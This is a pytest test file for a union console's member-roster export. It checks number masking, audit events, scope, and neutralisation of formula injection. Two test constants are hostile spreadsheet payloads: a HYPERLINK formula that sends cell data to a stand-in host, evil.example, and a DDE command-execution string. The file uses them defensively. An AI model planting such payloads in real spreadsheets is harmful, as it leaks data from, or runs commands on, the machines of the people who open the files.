"""Roster export from the console: the list's search as .xlsx or .csv, masked unless the officer
may see full numbers, every export audited, no cell starting a formula, scoped like the list."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Iterator
from datetime import date
from typing import Any

import pytest
from django.db import connection
from python_calamine import CalamineWorkbook

from gonghui.accounts.models import User
from gonghui.core.models import AuditEvent
from gonghui.members.models import Member, MemberStatus
from gonghui.members.services import exports
from gonghui.members.tests.factories import make_members, member_row
from gonghui.orgs.models import Role
from gonghui.orgs.tests.factories import Tree, client_for, make_workplace, officer_at

pytestmark = pytest.mark.django_db

ID_NUMBER = "330203199001011236"
MOBILE = "13912345678"
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
HOSTILE_REASON = "=cmd|' /C calc'!A0"


@pytest.fixture
def known(tree: Tree) -> Member:
    workplace = make_workplace(tree.town, tree.acme, name="东区甲公司")
    return Member.objects.bulk_create(
        [member_row(tree.acme, name="张伟明", id_number=ID_NUMBER, mobile=MOBILE, workplace=workplace)]
    )[0]


def _export(user: User, **data: str) -> Any:
    response = client_for(user).post("/console/members/export/", {"file_format": "xlsx", **data})
    assert response.status_code == 200, response
    assert response.streaming  # the file is streamed, not held in memory as one response body
    return response


def _content(response: Any) -> bytes:
    return b"".join(response.streaming_content)


def _rows(content: bytes) -> list[list[Any]]:
    rows: list[list[Any]] = (
        CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_index(0).to_python()
    )
    return rows


def _admin(tree: Tree) -> User:
    return officer_at(tree.east, "east.admin")


def test_the_export_is_a_workbook_with_chinese_headers_and_masked_numbers(tree: Tree, known: Member) -> None:
    response = _export(officer_at(tree.acme, "acme.officer", Role.UNION_OFFICER))

    rows = _rows(_content(response))
    assert rows[0][:5] == ["姓名", "身份证号", "性别", "出生日期", "手机号"]
    assert rows[1][:2] == ["张**", "330203********1236"]
    assert rows[1][4] == "139****5678"
    assert rows[1][5] == "东区甲公司工会"
    assert len(rows) == 2
    assert "attachment" in response["Content-Disposition"]
    assert "no-store" in response["Cache-Control"]
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")


def test_a_masked_export_is_audited_too(tree: Tree, known: Member) -> None:
    officer = officer_at(tree.acme, "acme.officer", Role.UNION_OFFICER)

    _export(officer)

    event = AuditEvent.objects.get(action="members.export")
    assert event.actor == officer
    assert "1" in event.note
    assert "xlsx" in event.note


def test_the_export_holds_only_the_members_in_scope(tree: Tree, known: Member) -> None:
    outside = make_members(tree.gamma, 2)

    rows = _rows(_content(_export(officer_at(tree.acme, "acme.officer", Role.UNION_OFFICER))))

    id_numbers = {row[1] for row in rows[1:]}
    assert id_numbers == {"330203********1236"}
    assert not {member.masked_id_number for member in outside} & id_numbers


def test_the_export_follows_the_search(tree: Tree, known: Member) -> None:
    make_members(tree.acme, 3)
    make_members(tree.beta, 2)

    admin = _admin(tree)

    by_name = _rows(_content(_export(admin, q="张伟")))
    by_org = _rows(_content(_export(admin, org=tree.beta.code)))
    with_left = make_members(tree.beta, 1, status=MemberStatus.LEFT)[0]
    by_status = _rows(_content(_export(admin, status="left")))

    assert [row[1] for row in by_name[1:]] == ["330203********1236"]
    assert len(by_org) == 3
    assert [row[1] for row in by_status[1:]] == [with_left.masked_id_number]


def test_full_numbers_for_an_officer_who_may_see_them_are_audited_as_such(tree: Tree, known: Member) -> None:
    admin = _admin(tree)

    rows = _rows(_content(_export(admin, full_numbers="on")))

    assert rows[1][:2] == ["张伟明", ID_NUMBER]
    assert rows[1][4] == MOBILE
    event = AuditEvent.objects.get(action="members.export_full")
    assert event.actor == admin
    assert ID_NUMBER not in event.note
    assert MOBILE not in event.note
    assert not AuditEvent.objects.filter(action="members.export").exists()


def test_full_numbers_are_refused_to_an_officer_who_may_not_see_them(tree: Tree, known: Member) -> None:
    officer = officer_at(tree.acme, "acme.officer", Role.UNION_OFFICER)

    response = client_for(officer).post(
        "/console/members/export/", {"file_format": "xlsx", "full_numbers": "on"}, follow=True
    )

    html = response.content.decode()
    assert "您无权导出这些会员的完整身份证号和手机号" in html
    assert ID_NUMBER not in html
    assert not AuditEvent.objects.filter(action__startswith="members.export").exists()


def _sheet_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as workbook:
        names = [name for name in workbook.namelist() if name.startswith("xl/worksheets/")]
        strings = (
            workbook.read("xl/sharedStrings.xml").decode()
            if "xl/sharedStrings.xml" in workbook.namelist()
            else ""
        )
        return "".join(workbook.read(name).decode() for name in names) + strings


@pytest.mark.parametrize("full", [True, False])
def test_no_cell_starts_a_formula(tree: Tree, full: bool) -> None:
    hostile = member_row(tree.acme, name=HOSTILE_NAME, status=MemberStatus.LEFT)
    hostile.end_reason = HOSTILE_REASON
    Member.objects.bulk_create([hostile])

    content = _content(_export(_admin(tree), status="left", **({"full_numbers": "on"} if full else {})))

    rows = _rows(content)
    cells = [str(cell) for cell in rows[1]]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
    assert f"'{HOSTILE_REASON}" in cells
    if full:
        assert f"'{HOSTILE_NAME}" in cells
    assert "<f>" not in _sheet_xml(content)  # no formula element anywhere in the workbook


def test_the_csv_export_has_a_byte_order_mark_and_neutralised_cells(tree: Tree, known: Member) -> None:
    hostile = member_row(tree.acme, name=HOSTILE_NAME)
    Member.objects.bulk_create([hostile])

    response = client_for(_admin(tree)).post(
        "/console/members/export/", {"file_format": "csv", "full_numbers": "on"}
    )

    content = _content(response)
    assert content.startswith(b"\xef\xbb\xbf")
    text = content.decode("utf-8-sig")
    lines = text.splitlines()
    assert lines[0].startswith("姓名,身份证号")
    assert f"张伟明,{ID_NUMBER}" in text
    assert not [line for line in lines if line.startswith(("=", "+", "-", "@"))]
    assert "'=HYPERLINK" in text


def test_bad_export_options_are_refused_without_a_file(tree: Tree, known: Member) -> None:
    response = client_for(_admin(tree)).post("/console/members/export/", {"file_format": "pdf"}, follow=True)

    assert "无法开始导出" in response.content.decode()
    assert not AuditEvent.objects.filter(action__startswith="members.export").exists()


def test_a_bad_search_is_refused_without_a_file(tree: Tree, known: Member) -> None:
    response = client_for(_admin(tree)).post(
        "/console/members/export/", {"file_format": "xlsx", "q": "张"}, follow=True
    )

    assert "请至少输入姓名的两个字" in response.content.decode()
    assert not AuditEvent.objects.filter(action__startswith="members.export").exists()


def test_the_export_reads_in_batches_with_a_bounded_number_of_queries(
    tree: Tree, known: Member, monkeypatch, django_assert_max_num_queries
) -> None:
    monkeypatch.setattr(exports, "EXPORT_BATCH", 10)
    make_members(tree.acme, 25)
    make_members(tree.beta, 25)
    client = client_for(_admin(tree))

    # The session, the user and their grants, the audit event, and per batch of 10 one query
    # (two on PostgreSQL: the page's ids union by union, then their rows; see selectors).
    per_batch = 2 if connection.vendor == "postgresql" else 1
    with django_assert_max_num_queries(8 + 6 * per_batch):
        response = client.post("/console/members/export/", {"file_format": "xlsx"})

    rows = _rows(_content(response))
    assert len(rows) == 52
    assert len({row[1] for row in rows[1:]}) == 51


def test_a_large_export_goes_on_over_further_sheets(tree: Tree) -> None:
    handle = io.BytesIO()
    rows: Iterator[list[str | date | None]] = iter([["x"] * len(exports.COLUMNS) for _ in range(5)])

    total = exports.write_xlsx(handle, rows, sheet_name="会员", rows_per_sheet=2)

    workbook = CalamineWorkbook.from_filelike(io.BytesIO(handle.getvalue()))
    assert total == 5
    assert workbook.sheet_names == ["会员", "会员 (2)", "会员 (3)"]
    assert len(workbook.get_sheet_by_index(2).to_python()) == 2  # header and the fifth row
